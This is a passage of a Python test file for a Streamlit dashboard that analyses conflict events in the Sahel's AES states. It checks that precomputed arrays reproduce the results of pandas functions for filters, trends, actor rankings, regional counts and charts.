                else (),
                min_fatalities=int(rng.choice([0, 0, 1, 5, 20])),
                include_non_aes_coups=bool(rng.random() < 0.5),
            )
        )
    return out


def test_precomputed_arrays_give_the_numbers_of_the_frame_functions(mixed_events):
    from dataclasses import replace
    from datetime import date

    from geo.analysis.filters import apply_filter
    from geo.model.countries import AES_MEMBERS

    events = mixed_events
    km = an.distance_km(events, CENTER)
    arrays = an.prepare(events, CENTER, km=km)
    alg = set(events["admin1_id"].drop_duplicates().iloc[::3]) - {""}
    checked = 0
    for f in _random_filters(events, 25):
        filtered = apply_filter(events, f)
        mask = an.filter_mask(arrays, f)
        assert np.array_equal(np.flatnonzero(mask), filtered.index.to_numpy()), f
        assert an.present(arrays, mask, "dataset") == set(filtered["dataset"].unique())
        assert an.years_present(arrays, mask) == an.years_of(filtered)
        # Trends: both groupings, the page's span.
        keyed = filtered.assign(
            country_iso3=filtered["country_iso3"].where(
                filtered["country_iso3"].isin(AES_MEMBERS), "other"
            )
        )
        cube = an.trend_cube(arrays, mask)
        for by in ("country_iso3", "category"):
            start = f.date_from or "2011-01-01"
            end = f.date_to or "2026-06-30"
            if not filtered.empty:
                pd.testing.assert_frame_equal(
                    an.monthly_from_cube(cube, by, start, end),
                    an.monthly_series(keyed, by, start=start, end=end),
                )
                pd.testing.assert_frame_equal(
                    an.monthly_from_cube(cube, by), an.monthly_series(keyed, by)
                )
        # Actors and victims, both rankings.
        sums = an.actor_sums(arrays, mask)
        for by in ("events", "fatalities_high"):
            for victims, n in ((False, 10), (True, 10_000)):
                pd.testing.assert_frame_equal(
                    an.rank_actors(sums, n, by, victims), an.top_actors(filtered, n, by, victims)
                )
        # Regions: the sidebar's span and one year; every year at once.
        for start, end in (
            (f.date_from, f.date_to),
            (pd.Timestamp("2020-01-01"), pd.Timestamp("2020-12-31")),
        ):
            pd.testing.assert_frame_equal(
                an.admin1_sums(arrays, mask, start, end), an.admin1_counts(filtered, start, end)
            )
        by_year = an.admin1_sums_by_year(arrays, mask)
        for year in range(2010, 2027):
            ref = an.admin1_counts(filtered, date(year, 1, 1), date(year, 12, 31))
            if ref.empty:
                assert year not in by_year
            else:
                pd.testing.assert_frame_equal(by_year[year], ref)
        # Distance bands of the three states.
        states = mask & arrays.isin("country", AES_MEMBERS)
        in_states = filtered[filtered["country_iso3"].isin(AES_MEMBERS)]
        if not in_states.empty:
            ours, ref = (
                an.distance_bands_arrays(arrays, states),
                an.distance_bands(in_states, CENTER, km=km),
            )
            # (the frame function's year is int32 or int64, as pandas's reindex decides)
            pd.testing.assert_frame_equal(ours.table, ref.table.astype({"year": "int64"}))
            pd.testing.assert_frame_equal(ours.summary, ref.summary)
            pd.testing.assert_series_equal(ours.unlocated, ref.unlocated, check_names=False)
        # Before / after: every filter but the dates.
        undated = replace(f, date_from=None, date_to=None)
        for pivot, months, radius in (("2023-09-16", 12, 150.0), ("2021-01-01", 30, 400.0)):
            ours = an.before_after_arrays(
                arrays, an.filter_mask(arrays, undated), pivot, months, alg, radius
            )
            ref = an.before_after(
                apply_filter(events, undated), pivot, months, alg, CENTER, radius, km=km
            )
            pd.testing.assert_frame_equal(ours.table, ref.table)
            assert (ours.windows, ours.straddling) == (ref.windows, ref.straddling)
            assert ours.completeness_before == ref.completeness_before
            assert ours.completeness_after == ref.completeness_after
        checked += int(not filtered.empty)
    assert checked >= 5  # filters that select something


def test_precomputed_arrays_of_hand_built_events_by_hand():
    from geo.model.filters import EventFilter

    df = make(
        [
            {
                "date": "2023-01-05",
                "country_iso3": "MLI",
                "actors": "JNIM; civilians",
                "fatalities_low": 2,
                "fatalities_high": 5,
                "km": 10,
                "admin1_id": "R-ALG",
            },
            {
                "date": "2023-02-01",
                "date_end": "2023-02-28",
                "date_precision": "month",
                "country_iso3": "BFA",
                "actors": "JNIM",
                "km": 60,
            },
            {
                "date": "2023-03-01",
                "country_iso3": "TCD",
                "category": "coup",
                "layer": "coups",
                "subtype": "attempted",
            },
        ]
    )
    arrays = an.prepare(df, CENTER)
    assert arrays.size == 3 and arrays.actor_names == ("JNIM", "civilians")
    everything = an.filter_mask(arrays, EventFilter(include_non_aes_coups=True))
    assert everything.tolist() == [True, True, True]
    assert an.filter_mask(arrays, EventFilter(actors=("civilians",))).tolist() == [
        True,
        False,
        False,
    ]
    assert an.filter_mask(arrays, EventFilter(min_fatalities=1)).tolist() == [
        True,
        False,
        False,
    ]  # unknown tolls never pass a minimum
    cube = an.trend_cube(arrays, everything)
    assert cube["country_iso3"].tolist() == ["MLI", "BFA", "other"]
    sums = an.actor_sums(arrays, everything).set_index("actor")
    assert sums.loc["JNIM", "events"] == 2 and sums.loc["JNIM", "fatalities_high"] == 5
    assert bool(sums.loc["civilians", "victim"])
    assert an.rank_actors(sums.reset_index(), victims=True)["actor"].tolist() == ["civilians"]


def test_a_cached_chart_spec_is_what_streamlit_would_send_for_the_altair_chart():
    """``vega_spec`` (drawn with ``st.vega_lite_chart``, built once per set of arguments)
    names the chart's frames as datasets and leaves out Altair's theme, as
    ``st.altair_chart`` does: same spec, same data."""
    from geo.io.events import load_events
    from geo.io.facts import load_timeline
    from geo.ui import analysis as ui_an

    rules = an.milestone_rules(load_timeline())
    events = load_events().events
    series = _trend_series("en")
    top = an.top_actors(events, 10)
    for kind, args in (
        ("events", (series, rules, "en", "Country", "country_iso3", "quarter")),
        ("actors", (top, "events", "fr")),
    ):
        spec = ui_an.vega_spec(ui_an.CHARTS[kind](*args))
        frames = spec["datasets"]
        assert frames and all(isinstance(f, pd.DataFrame) for f in frames.values())
        assert "continuousWidth" not in str(spec.get("config", {}))
        named = {n["data"]["name"] for n in _walk(spec) if isinstance(n.get("data"), dict)}
        assert named == set(frames)
        try:  # Streamlit's own conversion, where it still has this name
            from streamlit.elements.vega_charts import _convert_altair_to_vega_lite_spec
        except ImportError:
            continue
        theirs = _convert_altair_to_vega_lite_spec(ui_an.CHARTS[kind](*args))
        rename = dict(zip(theirs["datasets"], frames, strict=True))
        text = json.dumps({k: v for k, v in theirs.items() if k != "datasets"}, sort_keys=True)
        for old, new in rename.items():
            text = text.replace(old, new)
        assert text == json.dumps(
            {k: v for k, v in spec.items() if k != "datasets"}, sort_keys=True
        )


def _canonical(spec: dict) -> tuple[str, list[pd.DataFrame]]:
    """A spec's JSON with its datasets renamed in order of first use, and the frames."""
    import re

    text = json.dumps({k: v for k, v in spec.items() if k != "datasets"}, sort_keys=True)
    names = list(dict.fromkeys(re.findall(r'"name": "([^"]+)"', text)))
    names = [n for n in names if n in spec["datasets"]]
    for i, name in enumerate(names):
        text = text.replace(f'"{name}"', f'"DATASET{i}"')
    return text, [spec["datasets"][n] for n in names]


@pytest.mark.parametrize("lang", ["en", "fr"])
def test_trend_specs_put_together_are_the_layered_charts(lang):
    """The trend charts' specs, built from their bars and a cached milestone layer, are
    those of the whole layered Altair charts."""
    from geo.io.facts import load_timeline
    from geo.ui import analysis as ui_an

    rules = an.milestone_rules(load_timeline())
    series = _trend_series(lang)
    quiet = series[series["month"] < pd.Timestamp("2013-01-01")]  # before every milestone
    for kind, chart in (("events", ui_an.events_chart), ("fatalities", ui_an.fatalities_chart)):
        for part in (series, quiet):
            ours = _canonical(
                ui_an.trend_spec(kind, part, rules, lang, "Pays", "country_iso3", "quarter")
            )
            whole = _canonical(
                ui_an.vega_spec(chart(part, rules, lang, "Pays", "country_iso3", "quarter"))
            )
            assert ours[0] == whole[0]
            assert len(ours[1]) == len(whole[1])
            for a, b in zip(ours[1], whole[1], strict=True):
                pd.testing.assert_frame_equal(a, b)


def test_a_table_keeps_its_styler_id_from_run_to_run():
    """pandas gives each Styler a random id and Streamlit sends it: a table rebuilt on a
    rerun would differ from the one drawn, and the browser would draw it again."""
    from geo.ui import analysis as ui_an

    frame = pd.DataFrame({"Events": [1, 2_000], "Share": [0.5, 0.25]})
    first, second = (ui_an.number_table(frame, "fr", percent=["Share"]) for _ in range(2))
    assert first.uuid == second.uuid
    assert first.to_html() == second.to_html()
    assert ui_an.number_table(frame.rename(columns={"Events": "Deaths"}), "fr").uuid != (first.uuid)


def test_a_trend_view_builds_its_table_and_csv_rows_on_first_use(mixed_events):
    from geo.ui import analysis as ui_an

    arrays = an.prepare(mixed_events, CENTER)
    cube = an.trend_cube(arrays, np.ones(arrays.size, dtype=bool))
    for by in ui_an.TREND_GROUPINGS:
        view = ui_an.make_trend_view(cube, by, "en", None, None)
        assert "table" not in vars(view) and "export" not in vars(view)
        export = view.export
        assert view.export is export  # built once
        assert list(export.columns) == [
            view.period,
            "group",
            "group_name",
            "events",
            "fatalities_low",
            "fatalities_high",
            "fatalities_unknown",
        ]
        assert export["events"].sum() == arrays.size
        assert list(export["group_name"]) == list(view.shown["group_label"])
        assert len(view.table) == view.shown["month"].nunique()


def test_long_lived_objects_are_frozen_once_per_set_of_events():
    import gc

    from geo.ui import analysis as ui_an

    try:
        ui_an.freeze_long_lived_objects("state-1")
        frozen = gc.get_freeze_count()
        assert frozen > 0
        kept = [object() for _ in range(3)]  # noqa: F841 - alive, not yet frozen
        ui_an.freeze_long_lived_objects("state-1")  # same events: nothing to do
        assert gc.get_freeze_count() == frozen
        ui_an.freeze_long_lived_objects("state-2")  # unfrozen, collected, frozen again
        assert gc.get_freeze_count() > 0
        assert ui_an._FROZEN_FOR == ["state-2"]
    finally:
        gc.unfreeze()
        ui_an._FROZEN_FOR[0] = None
